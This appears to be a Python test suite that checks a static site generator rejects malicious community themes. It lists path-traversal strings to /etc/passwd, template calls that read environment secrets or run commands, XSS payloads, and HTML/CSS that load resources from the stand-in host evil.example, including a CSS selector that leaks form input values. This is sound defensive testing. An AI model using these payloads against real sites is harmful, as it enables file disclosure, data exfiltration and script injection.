"""A theme that somebody sent: its templates, style sheets and settings. They draw pages; they read nothing beside the
theme, know nothing of the machine, and let no page ask another host."""
import os

from given import FRONT, built, each, edit, held, page, theme
from harness import fault, run
from judge import foreign, judge

DRAWN, STYLES, SETTINGS = (f'themes/community/{it}' for it in ('templates/page.html', 'styles/media.css', 'theme.yaml'))
SECRET = 'TOP SECRET WORDS'


def drawn(site, text):
    """A theme whose pages draw this, with secrets beside it."""
    page(site, 'Words.\n')
    for path in ('secret.html', 'site/secret.html', 'site/content/secret.txt', 'site/themes/secret.html',
                 'site/themes/other/templates/secret.html'):
        path = site.folder / path
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(SECRET)
    site.write(DRAWN, theme('templates/page.html').replace('{% block main %}', '{% block main %}' + text, 1))


def keeps(site):
    """Refused at its file, or built; either way nothing secret came out."""
    ran = held(site, 'page.html', env={'HANDBILL_SECRET': SECRET})
    assert SECRET not in ran.said and 'root:x:' not in ran.said, 'it is in what was said'
    for path in site.out.rglob('*') if site.out.exists() else ():
        if path.is_file():
            data = path.read_bytes()
            assert SECRET.encode() not in data and b'root:x:' not in data, path.name
    return ran


WAYS = ['../../secret.html', '../../../secret.html', '../../../../secret.html', '../../other/templates/secret.html',
        '/etc/passwd', '../../../../../../../../etc/passwd',
        '../theme.yaml', '../../../content/secret.txt', 'file:///etc/passwd', 'https://evil.example/x.html',
        '../styles/base.css', '..\\\\..\\\\secret.html', 'parts/../../../secret.html']


@each('a template that includes {}: refused', {it: it for it in WAYS})
def include(site, path):
    drawn(site, f'{{% include "{path}" %}}')
    assert keeps(site).code == 1


@each('a template that extends {}: refused', {it: it for it in WAYS})
def extends(site, path):
    drawn(site, '')
    site.write(DRAWN, f'{{% extends "{path}" %}}')
    assert keeps(site).code == 1


CALLS = ['get_env(name="HANDBILL_SECRET")', 'get_env(name="PATH", default="x")', 'load_data(path="/etc/passwd")',
         'load_data(url="https://evil.example")', 'now()', 'get_random(start=1, end=9)',
         'read_file(path="/etc/passwd")', 'get_file(path="/etc/passwd")', 'exec(cmd="id")', '"/etc/passwd" | load_data',
         '"x" | shell', 'env.HANDBILL_SECRET', 'config.extra', 'get_url(path="x")',
         'resize_image(path="x")', '"x" | date(format="%s")']


@each('a template that calls {}: refused', {it: it for it in CALLS})
def call(site, code):
    drawn(site, f'{{{{ {code} }}}}')
    assert keeps(site).code == 1


@fault('a template that draws everything it is given: no path of this machine and nothing of its environment')
def everything(site):
    drawn(site, '<pre>{{ __tera_context }}</pre>')
    keeps(site)
    for path in site.out.rglob('*.html'):
        text = path.read_text()
        assert str(site.folder) not in text and os.environ.get('HOME', '/nowhere/at/all') + '/' not in text, path.name


SUMS = ['1 / 0', '1 % 0', '9223372036854775807 + 1', '-9223372036854775807 - 2', '9223372036854775807 * 2', '"a"[5:1]',
        '"äöü" | truncate(length=1)', '1.5 | round(precision=400)', '[] | first', '[1][9]',
        '"x" | replace(from="", to="xx")', '1 | pluralize', '{} | get(key="x")', '"%%%" | urlencode',
        '"x" | indent(width=1000000000)', '"a" | split(pat="")', '1e308 * 10', '0.0 / 0.0', 'range(end=5, step_by=0)',
        'range(start=5, end=1)', 'range(end=-1)']


@each('a template that reckons {}: told, or drawn; no crash', {it: it for it in SUMS})
def reckon(site, code):
    drawn(site, f'{{{{ {code} }}}}')
    keeps(site)


AWAY = {'a picture': '<img src="https://evil.example/t.png" alt="">',
        'a picture by sizes': '<img src="a.png" srcset="https://evil.example/t.png 2x" alt="">',
        'a style sheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
        'a script': '<script src="https://evil.example/x.js"></script>',
        'a frame': '<iframe src="https://evil.example/" title="x"></iframe>',
        'a film': '<video src="//evil.example/x.mp4" controls></video>',
        'a form': '<form action="https://evil.example/"><button>Send</button></form>',
        'an object': '<object data="https://evil.example/x" aria-label="x"></object>',
        'a font beforehand': '<link rel="preload" as="font" href="https://evil.example/x.woff2">',
        'a name beforehand': '<link rel="dns-prefetch" href="https://evil.example/">',
        'a way on': '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
        'a base': '<base href="https://evil.example/">',
        'a message for each click': '<a href="index.html" ping="https://evil.example/">Words</a>',
        'a style of its own': '<p style="background: url(https://evil.example/t.png)">Words</p>'}


@each('a template that lets pages ask another host by {}: refused with its file, as a style sheet is', AWAY)
def away(site, code):
    built(site)
    drawn(site, code)
    site.refused(DRAWN)


URLS = ['url(https://evil.example/t.png)', 'url("//evil.example/t.png")', "url('HTTPS://evil.example/t.png')",
        'url(\\68ttps://evil.example/t.png)', 'u\\72l(https://evil.example/t.png)',
        'url( https://evil.example/t.png )', 'image-set("https://evil.example/t.png" 1x)',
        'image-set(url(https://evil.example/t.png) 1x)', '-webkit-image-set(url(https://evil.example/t.png) 1x)',
        'src("https://evil.example/t.png")', 'cross-fade(url(https://evil.example/t.png), red)',
        'var(--gone, url(https://evil.example/t.png))', 'url(http:evil.example/t.png)', 'url(\\\\\\\\evil.example/t.png)',
        'url(ftp://evil.example/t.png)']


@each('a style sheet with {}: refused at its line', {it: it for it in URLS})
def style(site, address):
    built(site)
    site.write(STYLES, theme('styles/media.css') + f'\na {{ background-image: {address} }}\n')
    site.refused(STYLES + ':')


RULES = {'@import of a file beside the theme': '@import "../../../secret.css";',
         '@import of a host': '@import url(https://evil.example/x.css);',
         '@import without url': '@import "https://evil.example/x.css" layer(x);',
         'a font of a host': '@font-face { font-family: x; src: url(https://evil.example/x.woff2) }',
         'a pointer of a host': 'a { cursor: url(https://evil.example/x.cur), auto }',
         'a sign of lists of a host': 'ul { list-style-image: url(https://evil.example/x.png) }',
         'a property of its own': ':root { --x: url(https://evil.example/x.png) }',
         'a filter of a host': 'a { filter: url(https://evil.example/x.svg#a) }',
         'a mask of a host': 'a { mask: url(https://evil.example/x.svg) }',
         'a name space of a host': 'a { content: url(https://evil.example/x) }',
         'a host for a form that is filled in': 'input[value^="a"] { background: url(https://evil.example/a) }',
         'a file of the system': 'a { background: url(file:///etc/passwd) }',
         'a script address': 'a { background: url("javascript:alert(1)") }',
         'a path out of the site': 'a { background: url(../../../../etc/passwd) }'}


@each('a style sheet with {}: refused at its line', RULES)
def rule(site, text):
    built(site)
    site.write(STYLES, theme('styles/media.css') + '\n' + text + '\n')
    site.refused(STYLES + ':')


DEAD = {'expression()': 'a { inline-size: expression(alert(1)) }', 'behavior': 'a { behavior: url(x.htc) }',
        '-moz-binding': 'a { -moz-binding: url(x.xml#a) }',
        'the end of a style element': 'a::before { content: "</style><script>alert(1)</script>" }'}


@each('a style sheet with {}: refused, or harmless', DEAD)
def dead(site, text):
    site.write(STYLES, theme('styles/media.css') + '\n' + text + '\n')
    if held(site, STYLES).code == 0:
        judge(site.out)


EVIL = 'x; } body { background: url(https://evil.example/t.png) } a { b: c'
THEME = {
    'the family of a font': ('family: Noto Sans,', f'family: "{EVIL}",'),
    'the weight of a font': ('file: "NotoSans[wght].ttf", weight: 400 700',
                             'file: "NotoSans[wght].ttf", weight: "400; src: url(https://evil.example/x)"'),
    'the families of a script': ('fonts: [Noto Sans], size: 1', f'fonts: ["x\\"{EVIL}", Noto Sans], size: 1'),
    'the class of a dye': ('class: ""', 'class: "x\\" onclick=\\"alert(1)"'),
    'a language of a script': ('scripts: [Latn]', 'languages: ["en-GB\\"] { } a[x=\\"", en-GB], scripts: [Latn]'),
    'the colour of a dye': ('dye: "#5c1a48"', 'dye: "#read(\\"/etc/passwd\\")"'),
    'the name of a dye': ('  river:', '  "river\\"><script>alert(1)</script>":'),
    'a colour’s name': ('print: { dye:', 'print: { "x: red } a { b": "#000000", dye:'),
}


@each('code in {}, in theme.yaml: refused at its line, or harmless also with fonts and leaflets', THEME, slow=True)
def settings(site, change):
    text = theme('theme.yaml')
    assert change[0] in text, f'{change[0]} is not in theme.yaml: the test is out of date'
    site.write(SETTINGS, text.replace(*change, 1))
    page(site, 'Words.\n', FRONT.replace('status:', 'leaflets: [a4]\nstatus:'))
    if held(site, ':', whole=True, within=20, mib=900).code == 0:
        judge(site.out)
        for path in site.out.rglob('*.css'):
            assert not foreign(path.read_text()), path.name


SIZES = {'a size of nothing': ('size: [210, 297], pages: 2', 'size: [0, 0], pages: 2'),
         'a size below nothing': ('size: [210, 297], pages: 2', 'size: [-210, 297], pages: 2'),
         'an endless size': ('size: [210, 297], pages: 2', 'size: [1e300, 297], pages: 2'),
         'a size that is none': ('size: [210, 297], pages: 2', 'size: ["NaN", 297], pages: 2'),
         'no pages': ('size: [210, 297], pages: 2', 'size: [210, 297], pages: 0'),
         'pages below nothing': ('size: [210, 297], pages: 2', 'size: [210, 297], pages: -5'),
         'endless pages': ('size: [210, 297], pages: 2', 'size: [210, 297], pages: 1e300'),
         'endless space': ('leading: 0.68', 'leading: 1e300'), 'space below nothing': ('leading: 0.68', 'leading: -100'),
         'endless letters': ('size: 1, leading', 'size: 1e300, leading'),
         'no letters': ('size: 1, leading', 'size: 0, leading'), 'tiny letters': ('size: 1, leading', 'size: 1e-300, leading')}


@each('{} in theme.yaml: refused with a place, or printed; no crash', SIZES, slow=True)
def sizes(site, change):
    text = theme('theme.yaml')
    assert change[0] in text, f'{change[0]} is not in theme.yaml: the test is out of date'
    site.write(SETTINGS, text.replace(*change, 1))
    page(site, 'Words.\n', FRONT.replace('status:', 'leaflets: [a4]\nstatus:'))
    held(site, ':', whole=True, within=20, mib=900)


@each('{} of an edition that its theme does not have: refused at its line, or harmless', {it: it for it in ('dye', 'quilt')})
def unknown(site, key):
    for name in ('../../../secret', '"><script>alert(1)</script>', 'x" onload="alert(1)'):
        before = (site.root / 'content/start/edition.yaml').read_text()
        old = next(it for it in before.splitlines() if it.startswith(key + ':'))
        edit(site, 'content/start/edition.yaml', old, f'{key}: \'{name}\'')
        if held(site, 'content/start/edition.yaml').code == 0:
            judge(site.out)
        site.write('content/start/edition.yaml', before)


@fault('check tells the same of a theme as build does, and writes nothing')
def check(site):
    drawn(site, '{{ get_env(name="HANDBILL_SECRET") }}')
    ran = run('check', site.root, env={'HANDBILL_SECRET': SECRET})
    assert ran.code == 1 and 'page.html' in ran.said and SECRET not in ran.said
    assert not site.out.exists()
